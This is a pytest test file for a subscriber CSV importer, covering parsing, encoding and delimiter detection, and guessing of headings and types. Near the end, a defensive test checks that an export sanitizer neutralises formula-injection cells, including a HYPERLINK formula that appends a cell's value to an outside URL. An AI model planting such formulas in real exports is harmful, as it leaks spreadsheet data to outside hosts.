from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from subscribers.models import AttributeDefinition
from subscribers.selectors.imports import inert
from subscribers.services.importing.guessing import guess_mapping, guess_type, key_from
from subscribers.services.importing.reading import FAULTS, QUOTED, read_records
from subscribers.services.importing.sniffing import look_at

CELLS = st.text(alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\r\x00"), max_size=12)


def read(text: str, delimiter: str = ",") -> list[list[str]]:
    return [cells for _line, cells, _kind in read_records(io.StringIO(text), delimiter=delimiter)]


@given(st.lists(st.lists(CELLS, min_size=2, max_size=4), max_size=8), st.sampled_from([",", ";", "\t", "|"]))
def test_whatever_pythons_writer_writes_is_read_back(rows: list[list[str]], delimiter: str) -> None:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\n").writerows(rows)
    text = buffer.getvalue()
    if text.startswith("sep="):
        return

    assert read(text, delimiter) == rows


@given(st.text(alphabet='",\nab@.\\\t\x00', max_size=200))
def test_any_text_is_read_to_its_end_without_an_error(text: str) -> None:
    lines = 0
    for line, _cells, _kind in read_records(io.StringIO(text), delimiter=","):
        assert line > lines
        lines = line


def test_every_person_after_a_stray_quote_is_read() -> None:
    people = "".join(f"p{i}@example.com,P\n" for i in range(5_000))
    records = list(read_records(io.StringIO(f'a@example.com,"A\n{people}'), delimiter=","))

    assert [kind for _line, _cells, kind in records if kind in FAULTS] == ["unclosed_quote"]
    assert len(records) == 5_001
    assert records[-1][0] == 5_001


def test_line_numbers_count_the_lines_of_a_cell() -> None:
    records = list(read_records(io.StringIO('a,"x\ny\nz"\nb,"q"\n'), delimiter=","))

    assert records == [(1, ["a", "x\ny\nz"], QUOTED), (4, ["b", "q"], QUOTED)]


def test_a_line_separator_of_unicode_ends_no_row() -> None:
    assert read("a,one\u2028two\u0085three\nb,c\n") == [["a", "one\u2028two\u0085three"], ["b", "c"]]


@pytest.fixture
def file(tmp_path: Path) -> Path:
    return tmp_path / "people.csv"


@pytest.mark.parametrize(
    ("content", "encoding"),
    [
        ("имя;город\nНаталья;Екатеринбург\n".encode("cp1251"), "cp1251"),
        ("имя;город\nНаталья;Екатеринбург\n".encode("koi8-r"), "koi8-r"),
        ("имя;город\nНаталья;Екатеринбург\n".encode("cp866"), "cp866"),
        ("name;Ort\nJürgen;Köln\nZoë;Orléans\n".encode("cp1252"), "cp1252"),
        ("name;Ort\nJürgen;Köln\n".encode(), "utf-8-sig"),
        ("name;Ort\nJürgen;Köln\n".encode("utf-16-le"), "utf-16-le"),
        (b"name;Ort\nAna;Riga\n", "utf-8-sig"),
    ],
)
def test_letters_are_guessed(file: Path, content: bytes, encoding: str) -> None:
    file.write_bytes(content)

    assert look_at(file).encoding == encoding


def test_letters_are_judged_by_the_whole_file(file: Path) -> None:
    file.write_bytes(b"email,name\n" + b"a@example.com,Ana\n" * 100_000 + b"z@example.com,Zo\xeb\n")

    shape = look_at(file)

    assert (shape.encoding, shape.rows_expected) == ("cp1252", 100_001)


@pytest.mark.parametrize(
    ("content", "delimiter"),
    [
        ("a;b;c\n1,5;2,5;3,5\n", ";"),
        ("a,b\n1;2,3\n", ","),
        ("a\tb\n1,2\t3\n", "\t"),
        ("a|b|c\n1|2|3\n", "|"),
        ("email\na@example.com\n", ","),
        ('"a";"b"\n"x, y";"z"\n', ";"),
    ],
)
def test_the_separator_is_the_one_that_makes_even_columns(file: Path, content: str, delimiter: str) -> None:
    file.write_text(content)

    assert look_at(file).delimiter == delimiter


def fields(file: Path, text: str, *definitions: AttributeDefinition) -> dict[str, str]:
    file.write_text(text)
    return {one["column"]: one["field"] for one in guess_mapping(look_at(file), {one.key: one for one in definitions})}


def test_headings_of_three_languages_are_understood(file: Path) -> None:
    text = "E-Mail-Adresse;Имя;Фамилия;Nachname;Язык;Zeitzone;Теги;Kundennummer;user_id\na@example.com;A;B;C;ru;UTC;x;5;7\n"

    assert fields(file, text) == {
        "E-Mail-Adresse": "email",
        "Имя": "first_name",
        "Фамилия": "last_name",
        "Nachname": "",
        "Язык": "locale",
        "Zeitzone": "time_zone",
        "Теги": "tags",
        "Kundennummer": "attribute:kundennummer",
        "user_id": "",
    }


def test_the_address_is_found_by_its_values_where_the_heading_says_nothing(file: Path) -> None:
    assert fields(file, "who,where\nRiga,a@example.com\nOslo,b@example.com\n")["where"] == "email"


def test_an_attribute_that_exists_is_found_by_key_or_label(file: Path) -> None:
    since = AttributeDefinition(key="customer_since", label="Kunde seit", type="date")

    guessed = fields(file, "email,Kunde Seit\na@example.com,04.03.2023\n", since)

    assert guessed["Kunde Seit"] == "attribute:customer_since"


@pytest.mark.parametrize(
    ("heading", "key"),
    [("Город", "gorod"), ("Kunde seit", "kunde_seit"), ("Größe (cm)", "groesse_cm"), ("1st buy", "c_1st_buy"),
     ("Status", "status_field"), ("日本", "")],
)  # fmt: skip
def test_a_heading_becomes_a_key(heading: str, key: str) -> None:
    assert key_from(heading) == key


@pytest.mark.parametrize(
    ("values", "kind", "date_format"),
    [
        (["1240", "80", "0"], "number", ""),
        (["01067", "1010"], "text", ""),
        (["+371 2000", "12"], "text", ""),
        (["yes", "no"], "boolean", ""),
        (["0", "1"], "number", ""),
        (["04.03.2023", "31.12.2024"], "date", "%d.%m.%Y"),
        (["2023-03-04"], "date", "%Y-%m-%d"),
        (["12/31/2024"], "date", "%m/%d/%Y"),
        (["2023-03-04T10:00:00Z"], "datetime", ""),
        (["Riga", "12"], "text", ""),
        ([], "text", ""),
    ],
)
def test_a_kind_is_guessed_from_values_that_all_fit(values: list[str], kind: str, date_format: str) -> None:
    assert guess_type(values) == (kind, date_format)


@pytest.mark.parametrize(
    "cell", ['=HYPERLINK("https://example.com/?"&A1,"x")', "+1", "-1", "@x", "\t=1", "\r=1", " =1"]
)
def test_a_cell_of_an_export_never_starts_as_a_formula(cell: str) -> None:
    assert inert(cell).startswith("'")
    assert inert(inert(cell)) == inert(cell)


def test_ordinary_cells_of_an_export_stay_as_they_are() -> None:
    assert [inert(cell) for cell in ("Ana", "", "a@example.com", "1240")] == ["Ana", "", "a@example.com", "1240"]
